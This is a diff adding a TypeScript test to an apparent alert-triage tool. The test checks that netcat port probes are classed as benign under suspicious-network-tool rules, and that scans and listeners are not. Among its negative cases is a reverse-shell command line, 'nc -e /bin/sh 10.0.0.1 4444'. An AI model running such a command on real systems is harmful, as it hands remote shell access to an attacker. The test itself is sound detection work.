@@ -119,6 +119,18 @@ describe('matcher', () => {
       expect(benign(rule, 'sh /var/lib/dpkg/info/coreutils.list')).not.toContain(dpkg);
     }
   });
+  it('knows a port probe (nc -z, one host, one port) from a scan, whatever the other options', async () => {
+    const kb = await loadKnowledgeBase();
+    const benign = (rule: string, cmdline: string): boolean => {
+      // proc.tty 0: no terminal, as the host rule's pattern also asks.
+      const a = alertFrom({ rule, priority: 'Notice', source: 'syscall', output_fields: { 'proc.name': cmdline.split(' ')[0], 'proc.cmdline': cmdline, 'proc.tty': 0 } });
+      return benignMatches(matchEntry(a, kb).entry, a).some((b) => b.pattern.startsWith('Port probe'));
+    };
+    for (const rule of ['Launch Suspicious Network Tool in Container', 'Launch Suspicious Network Tool on Host']) {
+      for (const probe of ['nc -z db 5432', 'nc -zv -w 5 redis-master 6379', 'ncat -v -z 10.0.0.7 443', 'nc -w5 -vz host.example 80']) expect(benign(rule, probe), probe).toBe(true);
+      for (const other of ['nc -z host 1-1000', 'nc -v host 80', 'nc -l -p 4444', 'nc -e /bin/sh 10.0.0.1 4444', 'nc -z host 80 81']) expect(benign(rule, other), other).toBe(false);
+    }
+  });
   it('a user catalogue overrides a built-in entry of the same rule', async () => {
     const dir = tempKb({ 'mine.yaml': GOOD.replace('summary: Someone opened', 'summary: OURS. Someone opened') });
     const kb = await loadKnowledgeBase([dir]);
